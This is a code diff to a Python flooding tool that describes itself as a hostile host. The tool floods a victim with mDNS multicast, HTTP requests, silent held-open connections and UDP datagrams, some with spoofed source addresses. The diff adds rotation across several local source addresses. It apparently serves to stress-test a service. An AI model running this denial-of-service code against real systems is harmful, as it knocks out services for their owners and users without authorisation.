@@ -1,8 +1,9 @@
-"""A hostile host that fills everything which is open at once, from one core: ``flooder.py CORE OWN_ADDRESS SERVICE_TYPE VICTIM PORT``.
+"""A hostile host that fills everything which is open at once, from one core: ``flooder.py CORE OWN_ADDRESSES SERVICE_TYPE VICTIM PORT``.
 
 It multicasts mDNS packets, asks VICTIM's HTTP server at PORT, holds connections to it that say nothing, and sends datagrams to its
-other UDP ports. A line of stdin is a JSON object: ``{"do": "flood", "ports": [...], "as": [[address, port], ...]}`` starts it or says anew
-where to (``as``: sources that a half of the datagrams claim); ``{"do": "count"}`` prints how fast it has been since it was asked last.
+other UDP ports. OWN_ADDRESSES are divided by commas: HTTP comes from all of them by turns, the rest from the first. A line of stdin is a
+JSON object: ``{"do": "flood", "ports": [...], "as": [[address, port], ...]}`` starts it or says anew where to (``as``: sources that a half
+of the datagrams claim); ``{"do": "count"}`` prints how fast it has been since it was asked last.
 """
 
 from __future__ import annotations
@@ -68,7 +69,9 @@ def beacon() -> bytes:
 
 
 class Flood:
-    def __init__(self, own: str, service: str, victim: str, port: int) -> None:
+    def __init__(self, addresses: list[str], service: str, victim: str, port: int) -> None:
+        own = addresses[0]
+        self._addresses = itertools.cycle(addresses)
         self._victim, self._port = victim, port
         self._mdns = mdns_packets(service, own)
         self._multicast = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -143,7 +146,7 @@ class Flood:
         count["http"] += 1
         try:
             async with asyncio.timeout(2):
-                reader, writer = await asyncio.open_connection(self._victim, self._port)
+                reader, writer = await self._connected()
                 try:
                     writer.write(head.encode() + body)
                     line = await reader.readline()
@@ -154,11 +157,14 @@ class Flood:
             status = "reset"
         count[f"http {status}"] += 1
 
+    async def _connected(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        return await asyncio.open_connection(self._victim, self._port, local_addr=(next(self._addresses), 0))
+
     async def _hold(self) -> None:
         """A connection that says nothing, and another one a second after it was ended."""
         while True:
             try:
-                reader, writer = await asyncio.open_connection(self._victim, self._port)
+                reader, writer = await self._connected()
                 count["opened"] += 1
                 self._open += 1
                 try:
@@ -179,7 +185,7 @@ class Flood:
 
 async def main(core: str, own: str, service: str, victim: str, port: str) -> None:
     os.sched_setaffinity(0, {int(core)})
-    flood = Flood(own, service, victim, int(port))
+    flood = Flood(own.split(","), service, victim, int(port))
     reader = asyncio.StreamReader()
     await asyncio.get_running_loop().connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
     print(json.dumps({"event": "ready"}), flush=True)
